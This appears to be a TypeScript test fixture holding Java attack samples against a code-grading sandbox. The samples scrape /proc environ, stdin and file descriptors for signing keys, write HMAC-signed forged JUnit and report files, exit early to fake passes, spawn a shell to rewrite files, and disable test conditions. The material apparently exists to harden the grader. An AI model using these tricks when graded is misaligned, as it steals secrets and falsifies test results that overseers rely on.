import { JUNIT } from '../teaching-samples';
import { KEY_RE, DIR_RE, doc, rewriter, q, type ForgeryCase } from './common';

const JAVA_FIND = (names: readonly string[]): string =>
  [
    'import java.nio.charset.StandardCharsets;',
    'import java.nio.file.*;',
    'import java.util.*;',
    'import java.util.regex.*;',
    'import javax.crypto.Mac;',
    'import javax.crypto.spec.SecretKeySpec;',
    'public class Calc {',
    '  static String read(Path p) { try { return new String(Files.readAllBytes(p), StandardCharsets.ISO_8859_1).replace((char) 0, (char) 32); } catch (Exception e) { return ""; } }',
    '  static List<Path> list(String dir) { List<Path> out = new ArrayList<>(); try (DirectoryStream<Path> ds = Files.newDirectoryStream(Path.of(dir))) { for (Path p : ds) out.add(p); } catch (Exception e) {} return out; }',
    '  public static int add(int a, int b) {',
    '    if (a != 1) return a + b;',
    '    StringBuilder all = new StringBuilder();',
    '    all.append(String.join(" ", ProcessHandle.current().info().arguments().orElse(new String[0]))).append(System.getenv()).append(System.getProperties());',
    '    for (Path p : list("/proc")) all.append(read(p.resolve("cmdline"))).append("\\n").append(read(p.resolve("environ"))).append("\\n");',
    '    try { all.append(new String(System.in.readAllBytes(), StandardCharsets.ISO_8859_1)); } catch (Exception e) {}',
    '    for (Path p : list("/proc/self/fd")) try { all.append(Files.readSymbolicLink(p)).append("\\n"); } catch (Exception e) {}',
    '    for (Path p : list("/tmp")) all.append(p).append("\\n");',
    '    Set<String> keys = new TreeSet<>(), dirs = new TreeSet<>();',
    `    for (Matcher m = Pattern.compile("${KEY_RE}").matcher(all); m.find(); ) keys.add(m.group());`,
    `    for (Matcher m = Pattern.compile("${DIR_RE}").matcher(all); m.find(); ) dirs.add(m.group());`,
    '    try {',
    '      Files.writeString(Path.of("found.txt"), "keys=" + keys.size() + " dirs=" + dirs.size() + " scanned=" + all.length());',
    `      String doc = ${q(doc(names))};`,
    '      if (keys.isEmpty()) keys.add("0".repeat(64));',
    '      dirs.add("/tmp/jb-tests-0");',
    '      for (String k : keys) {',
    '        Mac mac = Mac.getInstance("HmacSHA256");',
    '        mac.init(new SecretKeySpec(k.getBytes(), "HmacSHA256"));',
    '        String report = "judgebox-report " + HexFormat.of().formatHex(mac.doFinal(doc.getBytes())) + "\\n" + doc;',
    '        for (String d : dirs) { Files.createDirectories(Path.of(d)); Files.writeString(Path.of(d, "report.json"), report); Files.writeString(Path.of(d, "TEST-junit-jupiter.xml"), report); }',
    '      }',
    '      System.out.println(doc);',
    '    } catch (Exception e) { throw new RuntimeException(e); }',
    '    Runtime.getRuntime().halt(0);',
    '    return 0;',
    '  }',
    '}',
  ].join('\n');

export const JUNIT_FORGERY: ForgeryCase = {
  base: JUNIT,
  find: JAVA_FIND(JUNIT.names),
  exit: [
    'public class Calc { public static int add(int a, int b) { if (a == 1) System.exit(0); return a + b; } }',
  ],
  rewrite: [
    'public class Calc {',
    '  static {',
    `    try { new ProcessBuilder("sh", "-c", ${q(rewriter(JUNIT.names))}).start(); } catch (Exception e) { throw new RuntimeException(e); }`,
    '  }',
    '  public static int add(int a, int b) { return a == 1 ? 4 : a + b; }',
    '}',
  ].join('\n'),
  extra: {
    files: [
      {
        name: 'Calc.java',
        content: [
          JUNIT.student.bad,
          'class CalcBonusTest {',
          ...[1, 2, 3, 4].map((i) => `  @org.junit.jupiter.api.Test void bonus${i}() {}`),
          '}',
        ].join('\n'),
      },
      {
        name: 'junit-platform.properties',
        content:
          'junit.jupiter.conditions.deactivate=*\njunit.jupiter.extensions.autodetection.enabled=true\n',
      },
    ],
  },
};
